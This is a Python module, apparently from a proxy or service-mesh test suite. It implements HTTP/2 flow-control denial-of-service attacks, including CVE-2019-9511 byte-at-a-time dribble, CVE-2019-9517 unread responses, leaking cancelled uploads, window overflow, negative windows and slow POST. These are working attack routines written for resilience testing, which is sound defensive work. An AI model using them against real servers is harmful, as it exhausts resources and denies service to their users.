"""Windows held shut: A06 dribble, A12 unread responses, A13 unread uploads, A14/A15 leaks, A16 corners, A18 slow posts."""

import struct

from messages import HELD, LARGE, RESPONSE, endless, request
from wire import DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, Attack, frame, reset, settings, window

EVERYWHERE = ("client", "mesh", "backend")
MESSAGE = b"\0" + struct.pack("!I", 16379) + bytes(16379)


class Dribble(Attack):
    """CVE-2019-9511: large responses, taken one byte at a time."""

    positions = EVERYWHERE
    settings = {4: 1}
    window_update = 1 << 20

    def begin(self, peer):
        return b"" if peer.is_server else b"".join(request(peer.open_stream(), LARGE, END_STREAM) for _ in range(100))

    def step(self, peer):
        if peer.is_server:
            return window(peer.state["requested"], 1) * 20
        return b"".join(window(1 + 2 * (index % 100), 1) for index in range(100))


class Unread(Attack):
    """CVE-2019-9517: HTTP/2's windows wide open, TCP's shut."""

    reads = False
    small_buffers = True
    settings = {4: 2**31 - 1}
    window_update = 2**30

    def begin(self, peer):
        head = endless(peer.target.scale)
        return b"".join(request(peer.open_stream(), head, END_STREAM) for _ in range(100))


class WindowShut(Attack):
    """Responses that may not be sent at all: what the proxy keeps of them is what counts."""

    settings = {4: 0}

    def begin(self, peer):
        head = endless(peer.target.scale)
        return b"".join(request(peer.open_stream(), head, END_STREAM) for _ in range(100))


class Upload(Attack):
    """Uploads to a backend that reads nothing, on all streams, as far as the windows allow."""

    def __init__(self, piece, flags=0, streams=100):
        self.piece = piece
        self.flags = flags
        self.streams = streams

    def begin(self, peer):
        peer.state["left"] = dict.fromkeys(range(1, 2 * self.streams, 2), 65536)
        peer.state["connection"] = 65535
        return b"".join(request(peer.open_stream(), HELD) for _ in range(self.streams))

    def on_frame(self, peer, kind, _flags, stream, payload):
        if kind == 8:
            increment = int.from_bytes(payload, "big")
            if stream == 0:
                peer.state["connection"] += increment
            elif stream in peer.state["left"]:
                peer.state["left"][stream] += increment
        return b""

    def step(self, peer):
        size = len(self.piece)
        out = []
        for stream, left in peer.state["left"].items():
            if left >= size and peer.state["connection"] >= size and len(out) < 200:
                peer.state["left"][stream] -= size
                peer.state["connection"] -= size
                out.append(frame(DATA, self.flags, stream, self.piece))
        return b"".join(out)


class BackendUnread(Attack):
    """A backend that takes no byte of what clients upload (its TCP window shut, or its HTTP/2 windows)."""

    positions = ("backend",)
    small_buffers = True

    def __init__(self, values, reads=True):
        self.settings = values
        self.reads = reads


class BackendEndless(Attack):
    """A backend that answers each request with as much as the windows allow, and more than the client reads."""

    positions = ("backend",)

    def on_request(self, peer, stream):
        return frame(HEADERS, END_HEADERS, stream, RESPONSE) + frame(DATA, 0, stream, MESSAGE[:16384]) * 3


class Cancelled(Attack):
    """A14, A15: uploads, padded ones too, that are cancelled. Many windows' worth of them, so a window that leaks is soon
    exceeded, which ends the connection."""

    def tick(self, peer):
        stream = peer.open_stream()
        body = frame(DATA, 0, stream, bytes(16000)) + frame(DATA, PADDED, stream, b"\xff" + bytes(455))
        return request(stream, HELD) + body + reset(stream) + body


class Overflow(Attack):
    positions = EVERYWHERE

    def begin(self, peer):
        return window(0, 2**31 - 1) * 2


class Negative(Attack):
    """SETTINGS that shrink windows in use below zero, then open them: allowed, and nothing may be sent meanwhile."""

    settings = {4: 65535}

    def begin(self, peer):
        return b"".join(request(peer.open_stream(), LARGE, END_STREAM) for _ in range(10))

    def tick(self, peer):
        peer.steps += 1
        if peer.steps == 20:
            return settings({4: 0})
        if peer.steps == 40:
            return settings({4: 65535 * 40}) + window(0, 1 << 28)
        return b""


class SlowPost(Attack):
    """Requests that never end, as many as allowed; honest long-lived streams look the same, so only their number and
    memory are bounded."""

    def begin(self, peer):
        return b"".join(request(peer.open_stream(), HELD) for _ in range(100))

    def tick(self, peer):
        peer.steps += 1
        if peer.steps % 50:
            return b""
        return frame(DATA, 0, 1 + 2 * (peer.steps // 50 % 100), b"\0\0\0\0\1x")


ATTACKS = {
    "A06 dribble": Dribble(),
    "A12 unread-responses": Unread(),
    "A12 windows-shut": WindowShut(),
    "A12 backend-reads-nothing": BackendUnread({}, reads=False),
    "A12 backend-windows-shut": BackendUnread({4: 0}),
    "A12 backend-endless": BackendEndless(),
    "A13 unread-upload": Upload(bytes(8192)),
    "A13 unread-upload-tiny": Upload(b"tiny!"),
    "A15 cancelled-uploads": Cancelled(),
    "A16 window-overflow": Overflow(),
    "A16 negative-window": Negative(),
    "A18 slow-post": SlowPost(),
}
